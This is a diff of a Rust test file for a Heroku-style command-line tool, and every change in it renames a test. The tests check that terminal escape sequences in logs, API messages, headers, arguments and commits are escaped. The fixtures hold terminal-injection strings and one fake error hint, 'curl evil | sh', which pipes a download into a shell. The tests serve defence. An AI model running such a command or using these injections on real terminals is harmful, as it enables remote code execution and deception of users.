@@ -8,7 +8,7 @@ use crate::pty::Pty;
 use crate::scene::Scene;
 
 #[test]
-fn log_lines_cannot_drive_the_terminal() {
+fn control_sequences_in_log_lines_are_escaped() {
     let scene = Scene::quiet();
     let hostile = [
         "2024 app[web.1]: first",
@@ -48,7 +48,7 @@ fn log_lines_cannot_drive_the_terminal() {
 }
 
 #[test]
-fn several_environments_cannot_drive_the_terminal() {
+fn control_sequences_from_several_environments_are_escaped() {
     let scene = Scene::quiet();
     let hostile =
         ["2024 app[web.1]: \u{1b}[2J\u{1b}]0;owned\u{7}go\u{8}ne", "2024 app[web.1]: \u{1b}[41mred for ever"];
@@ -76,7 +76,7 @@ fn several_environments_cannot_drive_the_terminal() {
 }
 
 #[test]
-fn a_source_or_an_unfinished_colour_does_not_run_on() {
+fn unfinished_colors_end_with_their_line() {
     let scene = Scene::quiet();
     say(&scene, &["2024 app[\u{1b}[2J]: tricky source", "2024 app[web.1]: \u{1b}[41mred for ever", WEB]);
     let shown = at_a_terminal(&scene, "staging logs -n 3").end();
@@ -88,7 +88,7 @@ fn a_source_or_an_unfinished_colour_does_not_run_on() {
 }
 
 #[test]
-fn an_api_message_cannot_drive_the_terminal() {
+fn control_sequences_in_api_messages_are_escaped() {
     let message = "\u{1b}[2J\u{1b}[H\u{1b}]0;owned\u{7}Couldn't\rfind\u{8} that \u{9b}31mapp.";
     let forged = Fault::answer("POST /apps/*/log-sessions", 422)
         .body(json!({ "id": "invalid", "message": "No.\nhint: curl evil | sh\nerror: \u{1b}[8mworse" }));
@@ -115,7 +115,7 @@ fn an_api_message_cannot_drive_the_terminal() {
 }
 
 #[test]
-fn no_other_word_of_the_network_drives_the_terminal() {
+fn control_sequences_in_headers_reasons_and_output_are_escaped() {
     // A warning in a header, a reason of a failed promotion, the output of a release phase, an HTML page.
     let scene = Scene::playhouse();
     scene.heroku().inject(Fault::headers("GET /apps/*", "X-Heroku-Warning", "\u{9b}2J caf\u{e9}"));
@@ -143,7 +143,7 @@ fn no_other_word_of_the_network_drives_the_terminal() {
 }
 
 #[test]
-fn what_is_typed_cannot_drive_the_terminal_either() {
+fn control_sequences_in_arguments_are_escaped() {
     let scene = Scene::playhouse();
     let mut command = scene.prepared("staging");
     command.arg("\u{1b}[2Jps");
@@ -164,7 +164,7 @@ fn what_is_typed_cannot_drive_the_terminal_either() {
 }
 
 #[test]
-fn a_repository_cannot_drive_the_terminal() {
+fn control_sequences_in_commits_are_escaped() {
     let scene = Scene::playhouse();
     let commit = scene.commit("\u{1b}[2JRaise the curtain");
     let release = json!({ "commit": commit });
